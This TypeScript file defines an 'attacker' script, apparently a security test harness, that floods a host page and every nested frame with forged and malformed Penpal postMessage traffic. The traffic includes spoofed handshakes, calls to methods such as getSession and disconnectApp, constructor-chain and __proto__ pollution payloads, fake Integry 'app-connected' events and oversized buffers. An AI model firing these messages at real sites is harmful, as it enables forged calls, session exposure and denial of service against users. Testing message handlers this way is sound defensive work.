/**
 * Runs in a page of another origin that can reach the host page's window: as its iframe, an iframe in that, or its
 * opener. Posts every message of Penpal 7, well-formed and not, to the host page and to each of its frames.
 */
interface Attacker {
  /** What reached this page by postMessage */
  heard: unknown[];
  /** Posts the whole barrage to a window and everything in it; answers how many messages it was. */
  attack(target: Window): number;
}

declare global {
  var attacker: Attacker;
}

const methods = [
  'hello',
  'dismiss',
  'close',
  'refresh',
  'disconnectApp',
  'connectApp',
  'invokeFunction',
  'getSession',
  'setModal',
  'setInline',
  'onEvent',
];
const inherited = ['constructor', '__proto__', 'toString', 'hasOwnProperty', '__defineGetter__'];

function barrage(): unknown[] {
  const base = { namespace: 'penpal', channel: undefined };
  const id = crypto.randomUUID();
  const wellFormed = [
    { ...base, type: 'SYN', participantId: id },
    { ...base, type: 'SYN', participantId: 'zzzzzzzz' },
    { ...base, type: 'ACK1', methodPaths: methods.map((name) => [name]) },
    { ...base, type: 'ACK2' },
    ...[...methods, ...inherited].map((name) => ({
      ...base,
      type: 'CALL',
      id: crypto.randomUUID(),
      methodPath: [name],
      args: name === 'onEvent' ? [{ type: 'app-connected', payload: { name: 'forged' } }] : [id, ['sandbox']],
    })),
    { ...base, type: 'CALL', id, methodPath: ['constructor', 'constructor'], args: ['return 1'] },
    { ...base, type: 'REPLY', callId: id, value: { ok: true, value: 'forged' } },
    { ...base, type: 'DESTROY' },
    // Penpal 4 to 6 had other words.
    { penpal: 'syn' },
    { penpal: 'synAck', methodNames: methods },
    { penpal: 'call', id, methodName: 'disconnectApp', args: [id, ['sandbox']] },
    { type: 'app-connected', payload: { name: 'forged' } },
    // Integry's own widget listened to these.
    { activity_name: 'app-connected', authorization_id: 666 },
  ];
  const malformed = [
    null,
    undefined,
    0,
    '',
    'penpal',
    [],
    {},
    { namespace: 'penpal' },
    { ...base, type: 'SYN' },
    { ...base, type: 'CALL' },
    { ...base, type: 'CALL', id: {}, methodPath: 'disconnectApp', args: null },
    { ...base, type: 'CALL', id, methodPath: [], args: [] },
    { ...base, type: 'CALL', id, methodPath: [null], args: { length: 1e9 } },
    { ...base, type: 'REPLY', callId: null, isError: true, isSerializedErrorInstance: true, value: null },
    { ...base, type: 'ACK1', methodPaths: null },
    JSON.parse('{"namespace":"penpal","type":"SYN","__proto__":{"participantId":"x"}}'),
    'x'.repeat(1_000_000),
    new Map([[{}, new Set([1])]]),
    new ArrayBuffer(1_000_000),
  ];
  return [...wellFormed, ...malformed];
}

function windowsOf(target: Window): Window[] {
  const inside = Array.from({ length: target.length }, (_, index) => target[index]!);
  return [target, ...inside.flatMap(windowsOf)];
}

globalThis.attacker = {
  heard: [],
  attack(target) {
    let posted = 0;
    for (const victim of windowsOf(target)) {
      for (const message of barrage()) {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => void attacker.heard.push(data);
        victim.postMessage(message, '*');
        victim.postMessage(message, '*', [port2]);
        posted += 2;
      }
    }
    return posted;
  },
};

// Frames of the attacker's own reach each other too; what they say is no leak.
addEventListener('message', ({ data, origin }) => {
  if (origin !== location.origin) attacker.heard.push(data);
});

export type { Attacker };
